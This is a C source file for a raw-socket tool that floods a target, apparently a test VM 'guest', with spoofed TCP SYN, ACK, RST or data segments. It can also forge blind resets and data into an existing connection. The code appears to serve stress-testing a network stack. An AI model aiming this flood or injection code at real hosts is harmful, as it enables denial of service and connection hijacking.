/*
 * Floods a guest with TCP segments as fast as it can, from random neighbours that do not exist, until it is ended:
 *
 *     flood INTERFACE GUEST_MAC GUEST_IP KIND PORT [PEER_IP PEER_PORT]
 *
 * KIND is syn, ack or rst, or data: octets nobody asked for. With a peer all segments claim to be of its connection, with random
 * numbers: what a blind attacker sends.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void die(const char *what) {
  perror(what);
  exit(1);
}

static uint32_t chance(void) {
  static uint32_t state = 2463534242;
  state ^= state << 13;
  state ^= state >> 17;
  return state ^= state << 5;
}

static uint32_t sum(const void *bytes, size_t length, uint32_t total) {
  const uint8_t *at = bytes;
  for (; length > 1; at += 2, length -= 2) total += (uint32_t)at[0] << 8 | at[1];
  return length ? total + ((uint32_t)at[0] << 8) : total;
}

static uint16_t checksum(uint32_t total) {
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return htons((uint16_t)~total);
}

int main(int argc, char **argv) {
  if (argc != 6 && argc != 8) {
    fprintf(stderr, "flood: expected INTERFACE GUEST_MAC GUEST_IP KIND PORT [PEER_IP PEER_PORT]\n");
    return 64;
  }
  int wire = socket(AF_PACKET, SOCK_RAW, 0);
  struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
  address.sll_ifindex = (int)if_nametoindex(argv[1]);
  if (wire < 0 || address.sll_ifindex == 0 || bind(wire, (struct sockaddr *)&address, sizeof address) < 0)
    die("flood: open");
  struct __attribute__((packed)) {
    struct ether_header ethernet;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t data[1000];
  } frame = {0};
  size_t data = strcmp(argv[4], "data") == 0 ? sizeof frame.data : 0;
  size_t segment = sizeof frame.tcp + data;
  if (!ether_aton_r(argv[2], (struct ether_addr *)frame.ethernet.ether_dhost)) die("flood: address");
  frame.ethernet.ether_type = htons(ETH_P_IP);
  memcpy(frame.ethernet.ether_shost, (uint8_t[]){2, 0, 0, 0, 1, 0}, 6);
  frame.ip.version = 4;
  frame.ip.ihl = 5;
  frame.ip.ttl = 64;
  frame.ip.protocol = IPPROTO_TCP;
  frame.ip.tot_len = htons((uint16_t)(sizeof frame.ip + segment));
  inet_pton(AF_INET, argv[3], &frame.ip.daddr);
  frame.tcp.dest = htons((uint16_t)atoi(argv[5]));
  frame.tcp.doff = 5;
  frame.tcp.window = htons(65535);
  frame.tcp.syn = strcmp(argv[4], "syn") == 0;
  frame.tcp.rst = strcmp(argv[4], "rst") == 0;
  frame.tcp.ack = !frame.tcp.syn && !frame.tcp.rst;
  printf("flooding\n");
  fflush(stdout);
  for (;;) {
    /* 10.0.0.3 to 10.0.0.254. */
    if (argc == 6) frame.ip.saddr = htonl(0x0a000003 + chance() % 252);
    else inet_pton(AF_INET, argv[6], &frame.ip.saddr);
    frame.tcp.source = argc == 6 ? htons((uint16_t)(1024 + chance() % 60000)) : htons((uint16_t)atoi(argv[7]));
    frame.tcp.seq = chance();
    frame.tcp.ack_seq = frame.tcp.ack ? chance() : 0;
    frame.ip.check = 0;
    frame.ip.check = checksum(sum(&frame.ip, sizeof frame.ip, 0));
    frame.tcp.check = 0;
    frame.tcp.check = checksum(sum(&frame.tcp, segment, sum(&frame.ip.saddr, 8, (uint32_t)(IPPROTO_TCP + segment))));
    if (send(wire, &frame, sizeof frame - sizeof frame.data + data, 0) < 0 && errno != ENOBUFS) die("flood: send");
  }
}
